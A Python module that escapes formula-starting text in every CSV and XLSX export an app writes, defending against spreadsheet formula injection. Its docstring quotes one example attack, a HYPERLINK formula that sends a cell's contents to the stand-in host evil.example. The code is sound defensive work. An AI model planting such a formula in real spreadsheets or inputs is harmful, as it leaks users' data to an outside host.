"""Every CSV and XLSX the app writes goes through here, so a cell is always data and never a formula.

A name such as ``=HYPERLINK("http://evil.example/?"&A1,"点击")`` typed by one admin must not run in the
spreadsheet another admin opens. Text starting with ``= + - @``, a tab or a carriage return gets a leading
single quote (OWASP "CSV injection"), and XLSX text cells are written as strings, never as formulas.
Numbers stay numbers so sums and sorting still work in Excel.
"""
from __future__ import annotations

import csv
import io
import re
from numbers import Number

#: the characters that make Excel, LibreOffice or WPS read a cell as a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: free text that ends up in exports (names, 年级, 班级): no formula-like start, markup or control characters
UNSAFE_TEXT_RE = re.compile(r"^[=+\-@]|[<>\x00-\x1f\x7f]")


def unsafe_text(text: str | None) -> bool:
    """True if *text* would start a formula in a spreadsheet or carries markup or control characters."""
    return bool(text) and UNSAFE_TEXT_RE.search(text) is not None


def safe_text(text: str) -> str:
    """Return *text* with a leading single quote if a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def cell_value(value):
    """Return what to write for one cell: numbers as they are, None as empty, anything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, Number):
        return value
    return safe_text(str(value))


def csv_bytes(rows) -> bytes:
    """Encode rows as CSV in UTF-8 with a BOM (so Excel shows Chinese), every text cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for values in rows:
        writer.writerow([cell_value(v) for v in values])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def append_row(sheet, values) -> None:
    """Append one row to an openpyxl sheet: numbers as numbers, all else as string cells (never formulas)."""
    sheet.append([None if v is None else cell_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            # openpyxl makes any str starting with "=" a formula; the quote above already prevents it, this too.
            cell.data_type = "s"


def workbook_bytes(book) -> bytes:
    """Serialise an openpyxl workbook."""
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
